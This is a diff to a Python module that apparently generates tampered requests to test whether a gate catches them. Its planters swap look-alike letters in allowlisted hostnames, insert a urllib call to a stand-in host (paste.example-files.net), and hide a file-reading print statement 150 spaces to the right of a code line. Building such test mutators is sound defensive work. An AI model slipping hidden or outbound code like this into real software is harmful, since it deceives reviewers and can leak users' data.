@@ -6,6 +6,7 @@ in one point, and describes the change in one line. The caller checks whether ga
 
 from __future__ import annotations
 
+import ast
 import re
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from dataclasses import dataclass, replace
@@ -16,15 +17,19 @@ from threegate.core.settings import RequestSettings
 from threegate.request.code import parse_python
 from threegate.request.model import InputFile, NetworkTarget, Request
 
-_LIKE: Final[Mapping[str, str]] = {
+LIKE: Final[Mapping[str, str]] = {
     "l": "i", "i": "l", "o": "0", "0": "o", "m": "n", "n": "m", "e": "c", "c": "e", "a": "o", "u": "v", "v": "u",
     "1": "l", "s": "5", "5": "s", "t": "f", "g": "q", "q": "g", "b": "d", "d": "b", "r": "t", "p": "q",
 }  # fmt: skip
 """Letters that are easily mistaken for each other."""
-_LABEL = re.compile(r"[a-z0-9]{4,}")
+LABEL: Final = re.compile(r"[a-z0-9]{4,}")
+"""A part of a host's name that is long enough for one wrong letter."""
 _SPACES: Final = 150
 """The column at which a hidden part of a line starts."""
-_ELSEWHERE: Final = "paste.example-files.net"
+_TRIES: Final = 60
+"""Lines that are tried as a place for a statement; each is read as Python."""
+ELSEWHERE: Final = "paste.example-files.net"
+"""The host of what calls out."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -44,14 +49,14 @@ def _host(request: Request, chance: Random, others: Sequence[InputFile], most: R
     places = [
         (target, match.start() + at)
         for target in request.network_allowlist
-        for match in _LABEL.finditer(target.host)
+        for match in LABEL.finditer(target.host)
         for at, letter in enumerate(match[0])
-        if letter in _LIKE
+        if letter in LIKE
     ]
     if not places:
         return None
     target, at = chance.choice(places)
-    host = f"{target.host[:at]}{_LIKE[target.host[at]]}{target.host[at + 1 :]}"
+    host = f"{target.host[:at]}{LIKE[target.host[at]]}{target.host[at + 1 :]}"
     if any(item.host == host for item in request.network_allowlist):
         return None
     changed = replace(
@@ -93,10 +98,10 @@ def _path(request: Request, chance: Random, others: Sequence[InputFile], most: R
 
 def _network(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
     """Add code that calls out."""
-    call = f"urllib.request.urlopen('https://{_ELSEWHERE}/{chance.randrange(16**6):06x}')"
+    call = f"urllib.request.urlopen('https://{ELSEWHERE}/{chance.randrange(16**6):06x}')"
     planted = f"import urllib.request; {call}"
     found = request.action.python()
-    changed = _after_a_line(found[0], planted, chance) if found else None
+    changed = with_a_line(found[0], planted, chance) if found else None
     if found is None or changed is None:
         return None
     return Planted("network", replace(request, action=found[1](changed)), f"code: {planted}")
@@ -119,17 +124,11 @@ def _limit(request: Request, chance: Random, others: Sequence[InputFile], most: 
 def _hidden(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
     """Put a statement far to the right in a line of code."""
     what = f"print(open('/in/{request.inputs[0].name}').read())" if request.inputs else "print('sent')"
-    if (found := request.action.python()) is None:
+    found = request.action.python()
+    hidden = far_right(found[0], what, chance) if found else None
+    if found is None or hidden is None:
         return None
-    lines = found[0].split("\n")
-    for at in chance.sample(range(len(lines)), len(lines)):
-        if not lines[at].strip() or lines[at].rstrip().endswith((":", "\\", ",")) or "#" in lines[at]:
-            continue
-        hidden = "\n".join([*lines[:at], f"{lines[at]}{' ' * _SPACES}; {what}", *lines[at + 1 :]])
-        if _parses(hidden):
-            changed = replace(request, action=found[1](hidden))
-            return Planted("hidden", changed, f"code, far to the right: {what}")
-    return None
+    return Planted("hidden", replace(request, action=found[1](hidden)), f"code, far to the right: {what}")
 
 
 PLANTS: Final[Mapping[str, Plant]] = {
@@ -143,27 +142,53 @@ PLANTS: Final[Mapping[str, Plant]] = {
 """By kind."""
 
 
-def _after_a_line(code: str, planted: str, chance: Random) -> str | None:
-    """The code with a new line between two of its lines, if it still parses and each existing line is
-    unchanged.
+def with_a_line(code: str, planted: str, chance: Random) -> str | None:
+    """The code with a new line between two of its lines, as far to the right as the one below it, where it is run: each
+    existing line is unchanged. None if there is no such place.
     """
     lines = code.split("\n")
     if len(lines) == 1:
         changed = f"{planted}; {code}" if chance.random() < 0.5 else f"{code}; {planted}"
-        return changed if _parses(changed) else None
-    for at in chance.sample(range(len(lines)), len(lines)):
-        changed = "\n".join([*lines[:at], planted, *lines[at:]])
-        if _parses(changed):
+        return changed if _has_more(code, changed) else None
+    after = _last_future(lines)
+    for at in chance.sample(range(len(lines)), len(lines))[:_TRIES]:
+        indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
+        changed = "\n".join([*lines[:at], f"{indent}{planted}", *lines[at:]])
+        if at > after and _has_more(code, changed):
             return changed
     return None
 
 
-def _parses(code: str) -> bool:
+def far_right(code: str, what: str, chance: Random) -> str | None:
+    """The code with a statement far to the right in one of its lines; None if there is no place for it."""
+    lines = code.split("\n")
+    after = _last_future(lines)
+    for at in chance.sample(range(len(lines)), len(lines))[:_TRIES]:
+        if at < after or not lines[at].strip() or lines[at].rstrip().endswith((":", "\\", ",")) or "#" in lines[at]:
+            continue
+        hidden = "\n".join([*lines[:at], f"{lines[at]}{' ' * _SPACES}; {what}", *lines[at + 1 :]])
+        if _has_more(code, hidden):
+            return hidden
+    return None
+
+
+def _last_future(lines: Sequence[str]) -> int:
+    """The last line before which no statement may be."""
+    return max((at for at, line in enumerate(lines) if line.startswith("from __future__")), default=-1)
+
+
+def _has_more(code: str, changed: str) -> bool:
+    """Whether the changed code can be read and has more statements: what is planted within a text would do nothing."""
+    before, after = statements(code), statements(changed)
+    return before is not None and after is not None and after > before
+
+
+def statements(code: str) -> int | None:
+    """How many statements some Python code has; None if it cannot be read."""
     try:
-        parse_python(code)
-    except (SyntaxError, ValueError):
-        return False
-    return True
+        return sum(isinstance(node, ast.stmt) for node in ast.walk(parse_python(code)))
+    except (SyntaxError, ValueError, RecursionError, MemoryError):
+        return None
 
 
 def plants(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Iterator[Planted]:
